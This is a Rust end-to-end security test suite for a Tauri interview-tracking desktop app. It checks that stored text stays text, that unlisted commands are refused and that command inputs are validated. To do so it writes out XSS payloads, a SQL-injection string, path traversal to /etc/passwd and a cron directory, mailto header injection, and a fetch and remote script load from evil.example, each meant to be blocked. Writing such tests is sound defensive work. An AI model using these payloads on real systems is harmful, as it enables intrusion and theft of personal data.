//! The page is not trusted: no recorded text becomes part of its markup, and a script of an attacker in it could do no
//! more than a user can.

use std::fs;

use serde_json::{Value, json};

use crate::imports::drop_file;
use crate::panels::note_links;
use crate::reminders::{BEFORE, INTERVIEW};
use crate::support::process::wait_for;
use crate::support::webdriver::Browser;
use crate::support::{Desktop, SOON};

/// Text that would be a script, a picture, a frame or another attribute if it were taken for markup anywhere.
const HOSTILE: &str = "\"'><img src=x onerror=window.pwned=1><script>window.pwned=2</script><svg onload=window.pwned=3>\
    <iframe src=javascript:window.pwned=4></iframe><a href=javascript:window.pwned=5>x</a>{{7*7}}${window.pwned=6}\u{202e}gpj";

#[test]
fn hostile_text_in_every_field_stays_text_on_every_page() {
    let desktop = Desktop::start(BEFORE);
    let text = HOSTILE;
    let interviewer = json!({"name": text, "address_as": text, "title": text, "company": text, "emails": [text],
        "phones": [text], "address": text, "website": text, "note": text, "spoke_about": text});
    let again = json!({"name": text, "emails": ["a@b.example"], "website": "javascript:window.pwned=7"});
    desktop.add_interview(
        &json!({"company": text, "role": text, "start": "2026-11-23T15:00:00+08:00", "interviewers": [interviewer, again],
            "notes": {"shared": text, "wished": text, "seeking": text, "strengths": text}})
        .to_string(),
    );
    let reply = ["reply", "--application", "1", "--meaning", "deciding", "--note", text, "--stands", text];
    let touch = ["touch", "--application", "1", "--kind", "other", "--note", text];
    for arguments in [&reply[..], &touch, &["settings", "name", text], &["settings", "signature", text]] {
        let done = desktop.cli(arguments);
        assert!(done.status.success(), "{}", done.errors);
    }
    let cards = desktop.home.folder().join("cards.vcf");
    let line = text.replace(',', "\\,").replace(';', "\\;");
    let photo = "PHOTO;VALUE=uri:javascript:window.pwned=8";
    fs::write(
        &cards,
        format!(
            "BEGIN:VCARD\r\nVERSION:3.0\r\nFN:{line}\r\nNOTE:{line}\r\n{photo}\r\nX-{line}:{line}\r\nEND:VCARD\r\n"
        ),
    )
    .unwrap();
    let _agent = desktop.agent();
    let window = desktop.window();
    window.wait_for_text("thank-you");
    let pages = [
        "today",
        "people",
        "person/1",
        "person/2",
        "duplicates",
        "merge/1/2",
        "applications/list",
        "applications/board",
        "applications/timeline",
        "applications/calendar",
        "applications/replies",
        "application/1",
        "interview/1",
        "interview",
        "write/other%3A1%3A1",
        "call/other%3A1%3A1",
        "templates",
        "template/en/thank_you",
        "export",
        "import",
        "settings",
        "backups",
    ];
    window.script("location.hash = '#/import'", json!([]));
    window.find("heading", "Import");
    drop_file(&window, "<img src=x onerror=window.pwned=9>.vcf", &fs::read_to_string(&cards).unwrap());
    window.wait_for_text("One may be somebody you have");
    for page in pages {
        window.script("location.hash = `#/${arguments[0]}`", json!([page]));
        let at = "return location.hash === `#/${arguments[0]}` && document.querySelector('main h1') !== null";
        wait_for(&format!("the page {page}"), SOON, || window.script(at, json!([page])) == true);
        std::thread::sleep(std::time::Duration::from_millis(250));
        assert_eq!(window.script(INJECTED, json!([])), json!([]), "{page}: nothing that was recorded is an element");
    }
    assert_eq!(window.script("return window.pwned ?? null", json!([])), Value::Null, "nothing ran");
    assert_eq!(window.complaints(), [""; 0], "and nothing tried to");
}

/// Elements that none of our pages contains, and links to places that none of ours leads to.
const INJECTED: &str = "
    const ours = /^(#|mailto:|tel:|https:)/;
    const strange = [...document.querySelectorAll('iframe, object, embed, base, meta[http-equiv], form[action], svg[onload], [onerror], [onload], [onclick]')];
    const scripts = [...document.scripts].filter(script => !script.src.startsWith(location.origin));
    const pictures = [...document.images].filter(image => !image.src.startsWith('data:image/'));
    const links = [...document.querySelectorAll('a[href]')].filter(link => !ours.test(link.getAttribute('href')));
    return [...strange, ...scripts, ...pictures, ...links].map(node => node.outerHTML.slice(0, 200));";

/// What a command answers to the page: its value, or its refusal as a text.
fn invoke(window: &Browser, command: &str, arguments: Value) -> Result<Value, String> {
    let ask = "const done = arguments[arguments.length - 1];
        window.__TAURI_INTERNALS__.invoke(arguments[0], arguments[1]).then(
            value => done({ value: value ?? null }),
            error => done({ error: typeof error === 'string' ? error : JSON.stringify(error) ?? 'refused' }))";
    let answer = window.script_later(ask, json!([command, arguments]));
    match answer.get("error") {
        Some(error) => Err(error.as_str().unwrap_or_default().to_owned()),
        None => Ok(answer["value"].clone()),
    }
}

/// Commands of Tauri and its plugins that this window does not need, and commands that belong to the other page.
const REFUSED: [&str; 44] = [
    "plugin:fs|read_text_file",
    "plugin:fs|write_file",
    "plugin:shell|execute",
    "plugin:shell|open",
    "plugin:http|fetch",
    "plugin:dialog|open",
    "plugin:dialog|save",
    "plugin:dialog|message",
    "plugin:opener|open_url",
    "plugin:opener|open_path",
    "plugin:opener|reveal_item_in_dir",
    "plugin:process|exit",
    "plugin:process|restart",
    "plugin:updater|check",
    "plugin:os|hostname",
    "plugin:clipboard-manager|read_text",
    "plugin:window-state|save_window_state",
    "plugin:window-state|filename",
    "plugin:app|version",
    "plugin:app|name",
    "plugin:app|app_hide",
    "plugin:app|set_app_theme",
    "plugin:path|resolve_directory",
    "plugin:path|join",
    "plugin:event|emit",
    "plugin:event|emit_to",
    "plugin:window|create",
    "plugin:window|get_all_windows",
    "plugin:window|set_title",
    "plugin:window|hide",
    "plugin:window|destroy",
    "plugin:window|set_fullscreen",
    "plugin:window|start_dragging",
    "plugin:webview|create_webview",
    "plugin:webview|create_webview_window",
    "plugin:webview|internal_toggle_devtools",
    "plugin:webview|print",
    "plugin:menu|new",
    "plugin:tray|new",
    "plugin:image|from_path",
    "plugin:resources|close",
    "rescue_restore",
    "rescue_anew",
    "no_such_command",
];

#[test]
fn commands_not_on_the_list_are_refused() {
    let desktop = Desktop::start(BEFORE);
    let _agent = desktop.agent();
    let window = desktop.window();
    window.wait_for_text("Nothing here yet");
    for command in REFUSED {
        let answer = invoke(
            &window,
            command,
            json!({"path": "/etc/passwd", "url": "https://evil.example", "request": {"name": "x"}}),
        );
        let refusal = answer.expect_err(command);
        assert!(refusal.contains("not allowed") || refusal.contains("not found"), "{command}: {refusal}");
    }
    assert!(invoke(&window, "show", json!({"request": {"page": {"page": "today"}}})).is_ok(), "one on the list is not");
    let frozen = "'use strict'; try { Object.prototype.pwned = 1; } catch { return true; } return false;";
    assert_eq!(window.script(frozen, json!([])), true, "nobody changes what all objects share");
    for script in ["data:text/javascript,window.pwned=1", "blob:null/1", "https://evil.example/x.js"] {
        let add = "const done = arguments[arguments.length - 1]; const script = document.createElement('script');
            script.src = arguments[0]; script.onload = () => done('ran'); script.onerror = () => done('blocked');
            document.head.append(script);";
        assert_eq!(window.script_later(add, json!([script])), "blocked", "{script}");
    }
    let connect = "const done = arguments[arguments.length - 1];
        fetch('https://evil.example/?names').then(() => done('sent'), () => done('blocked'))";
    assert_eq!(window.script_later(connect, json!([])), "blocked", "no record leaves by a request");
    assert_eq!(window.script("return window.pwned ?? null", json!([])), Value::Null);
}

#[test]
fn commands_check_everything_they_are_given() {
    let mut desktop = Desktop::start(BEFORE);
    let opened = note_links(&mut desktop);
    desktop.add_interview(INTERVIEW);
    let _agent = desktop.agent();
    let window = desktop.window();
    window.wait_for_text("thank-you this evening");
    let before = desktop.cli(&["export", "json"]).output;
    let page = json!({"page": "today"});
    let long = "x".repeat(2_000_000);
    let card = |name: &str| {
        json!({"name": name, "address_as": "", "title": "", "company": "", "emails": [], "phones": [],
        "address": "", "website": "", "zone": "", "only": null, "note": "", "language": ""})
    };
    let attempts = [
        ("person_add", json!({"card": card(&long), "page": page})),
        ("person_add", json!({"card": card("x"), "page": page, "admin": true})),
        ("person_add", json!({"card": {"name": 7}, "page": page})),
        ("person_save", json!({"id": -1, "card": card("x"), "page": page})),
        ("person_save", json!({"id": 9_007_199_254_740_993_i64, "card": card("x"), "page": page})),
        ("person_erase", json!({"id": 99, "how": "delete_for_good", "page": page})),
        ("person_erase", json!({"id": 1, "how": "anything", "page": page})),
        ("step_done", json!({"step": "thank_you:1:99", "channel": null, "outcome": null, "page": page})),
        ("step_done", json!({"step": "'; DROP TABLE contact; --", "channel": null, "outcome": null, "page": page})),
        ("step_snooze", json!({"step": "thank_you:1:1", "until": "never", "page": page})),
        ("setting_save", json!({"key": "calendar_file", "value": "/etc/cron.d/x.ics", "page": page})),
        ("setting_save", json!({"key": "no_such_key", "value": "x", "page": page})),
        ("setting_save", json!({"key": "signature", "value": long, "page": page})),
        ("backup_restore", json!({"name": "../afterword.db"})),
        ("backup_restore", json!({"name": "/etc/passwd"})),
        ("backup_delete", json!({"name": "../afterword.db"})),
        ("backup_delete", json!({"name": "afterword.db"})),
        ("undo", json!({"entry": 999, "page": page})),
        ("show", json!({"page": {"page": "file:///etc/passwd"}})),
        ("show", json!({"page": {"page": "template", "language": "../../x", "name": "../../../etc/passwd"}})),
        ("open_link", json!({"link": "file:///etc/passwd"})),
        ("open_link", json!({"link": "javascript:alert(1)"})),
        ("open_link", json!({"link": "https://evil.example/?names=everybody"})),
        ("open_link", json!({"link": "http://evil.example"})),
        ("open_link", json!({"link": "mailto:a@b.example?attach=/etc/passwd"})),
        ("open_link", json!({"link": "mailto:a@b.example\r\nBcc: c@d.example"})),
        ("open_link", json!({"link": "smb://evil.example/share"})),
    ];
    for (command, request) in attempts {
        let shown: String = request.to_string().chars().take(120).collect();
        assert!(invoke(&window, command, json!({"request": request})).is_err(), "{command} {shown}");
    }
    let after = desktop.cli(&["export", "json"]).output;
    assert!(after == before, "nothing was changed by any of it");
    invoke(&window, "open_link", json!({"request": {"link": "tel:+6565550142"}}))
        .expect("what a card can hold is opened");
    wait_for("the link", SOON, || opened.exists());
    assert_eq!(fs::read_to_string(opened).unwrap(), "tel:+6565550142\n", "and nothing else was");
    assert!(desktop.cli(&["doctor"]).output.contains("Sound"));
}
